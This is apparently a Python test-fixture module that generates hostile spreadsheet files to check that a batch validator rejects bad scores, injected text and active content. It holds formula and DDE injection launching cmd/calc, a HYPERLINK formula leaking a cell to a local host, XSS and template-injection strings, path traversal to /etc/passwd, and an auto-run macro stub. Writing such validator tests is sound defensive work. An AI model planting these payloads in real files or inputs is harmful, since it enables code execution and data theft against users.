"""Scores that are no scores, texts that want to become something else, and what could act."""

from __future__ import annotations

from collections.abc import Callable

from openpyxl.workbook.workbook import Workbook

from perfeval_batch import schema
from tests.hostile_parts import (
    STRINGS,
    Files,
    compound,
    edited,
    having,
    having_for,
    noise,
    put,
    score,
)


def values() -> Files:
    """Scores that are no scores: each an error on its cell, never a silent number."""

    def typed(text: str) -> Callable[[], bytes]:
        return lambda: score(f'<c r="J7" t="inlineStr"><is><t>{text}</t></is></c>')

    def stored(raw: str, attributes: str = "") -> Callable[[], bytes]:
        return lambda: score(f'<c r="J7"{attributes}><v>{raw}</v></c>')

    texts = (
        "1_0",
        "nan",
        "inf",
        "1E400",
        "1e1",
        "IO",
        "九点五",
        "9,5",
        "95%",
        "９。５",
        "①",
        "٩",
        "优",
    )
    numbers = ("NaN", "INF", "-INF", "1E400", "1e308", "1_0", "９", "0x9", "1e12")
    return {
        **{f"得分文字{at:02}.xlsx": ("PE402", typed(text)) for at, text in enumerate(texts, 1)},
        **{f"得分数值{at:02}.xlsx": ("PE402", stored(raw)) for at, raw in enumerate(numbers, 1)},
        "得分18位数字.xlsx": ("PE402", typed("123456789012345678")),
        "得分是TRUE.xlsx": ("PE402", stored("1", ' t="b"')),
        "得分是错误值.xlsx": ("PE010", stored("#REF!", ' t="e"')),
        "得分是未算的公式.xlsx": ("PE011", lambda: score('<c r="J7"><f>5+4.5</f></c>')),
        "得分是空值公式.xlsx": ("PE401", lambda: score('<c r="J7" t="str"><f>""</f><v></v></c>')),
        "得分是日期.xlsx": ("PE402", stored("2023-12-31", ' t="d"')),
        "得分是负零.xlsx": ("", stored("-0")),
        "得分是负数.xlsx": ("PE402", stored("-1")),
        "得分太大.xlsx": ("PE403", stored("11")),
        "得分17位小数.xlsx": ("", stored("9.5000000000000001")),
        "得分全角.xlsx": ("", typed("９．５")),
        "得分带零宽.xlsx": ("", typed("9&#8203;.5")),
        "金额缩小显示.xlsx": ("PE201", _scaled_amount),
        "金额是无穷.xlsx": (
            "PE201",
            lambda: edited(lambda book: put(book, "E4", "∞", schema.FUNDS)),
        ),
    }


def _scaled_amount() -> bytes:
    def change(book: Workbook) -> None:
        cell = book[schema.FUNDS]["C4"]
        cell.value, cell.number_format = 63136600, "0!.0000"

    return edited(change)


def words() -> Files:
    """Texts and names that want to become something else: formula, markup, path."""

    def named(name: str) -> Callable[[], bytes]:
        return _said("运行维护经费", name)

    evil = {
        "公式": "=cmd|' /C calc'!A0",
        "加号": "+1+cmd|' /C calc'!A0",
        "减号": "-2+3+cmd|' /C calc'!A0",
        "艾特": "@SUM(1+1)*cmd|' /C calc'!A0",
        "制表": "\t=1+1",
        "链接": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点")',
        "标签": "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "脚本": "javascript:alert(1)//]]></script>",
        "模板": "{{ 7*7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
        "文档标签": "</w:t></w:r></w:p><w:p><w:r><w:t>&amp;lt;",
        "控制字": "甲_x0007__x001B_乙",
        "代理": "甲_xD800_乙_xDFFF_丙",
        "反向": "甲\u202eslx.乙",
        "组合": "甲" + "\u0301\u0327\u0489" * 300,
        "表情": "👩‍👩‍👧‍👦🏳️‍🌈",
        "上级": "../../../../etc/passwd",
        "反斜": "..\\..\\windows\\system32",
        "盘符": "C:\\evil",
        "保留": "CON",
        "保留二": "aux.docx",
        "保留三": "LPT1.项目",
        "尾点": "项目. . .",
        "特殊": '<>:"/\\|?*\n项目',
        "长名": "很长的项目名称" * 50,
        "大小写": "Project-ABC",
        "大小写二": "project-abc",
        "组合式": "Cafe\u0301",
        "预组式": "Caf\u00e9",
    }
    return {
        **{f"名称{key}.xlsx": ("", named(_escaped(text))) for key, text in evil.items()},
        "名称只有零宽.xlsx": ("PE101", named("\u200b\u200d\ufeff")),
        "部门是上级.xlsx": ("", _said("云溪县住房和城乡建设局", "..")),
        "部门是保留名.xlsx": ("", _said("云溪县住房和城乡建设局", "NUL")),
        "说明三万字.xlsx": ("", _said("年初", "字" * 32_767)),
        "所有文字是公式.xlsx": ("", _all_texts),
    }


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _said(old: str, new: str) -> Callable[[], bytes]:
    """The seed's workbook with a whole text replaced."""
    return having_for(STRINGS, f">{old}</t>", f' xml:space="preserve">{new}</t>')


def _all_texts() -> bytes:
    """Every answer of 基本情况 begins like a formula."""

    def change(book: Workbook) -> None:
        for row in book[schema.FACTS].iter_rows(min_row=5, max_row=27, min_col=2, max_col=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.row != 10:
                    cell.value = "=" + cell.value
                    cell.data_type = "s"

    return edited(change)


def active() -> Files:
    """Macros, links and objects: named, never run, followed or copied into our own outputs."""
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    return {
        "宏.xlsm": ("", having("xl/vbaProject.bin", compound({"VBA": b"Sub Auto_Open()"}))),
        "宏表.xlsm": ("", having("xl/macrosheets/sheet1.xml", "<macrosheet/>")),
        "外部链接.xlsx": ("", having("xl/externalLinks/externalLink1.xml", "<externalLink/>")),
        "DDE.xlsx": ("", having("xl/externalLinks/externalLink1.xml", link)),
        "控件.xlsx": ("", having("xl/activeX/activeX1.xml", "<ocx/>")),
        "数据连接.xlsx": ("", having("xl/connections.xml", "<connections/>")),
        "嵌入对象.xlsx": ("", having("xl/embeddings/evil.exe", b"MZ" + noise(2000))),
        "远程图片.xlsx": (
            "",
            having(
                "xl/drawings/_rels/drawing1.xml.rels",
                '<Relationships><Relationship Id="r1" TargetMode="External" '
                'Target="http://127.0.0.1:9/x.png"/></Relationships>',
            ),
        ),
    }
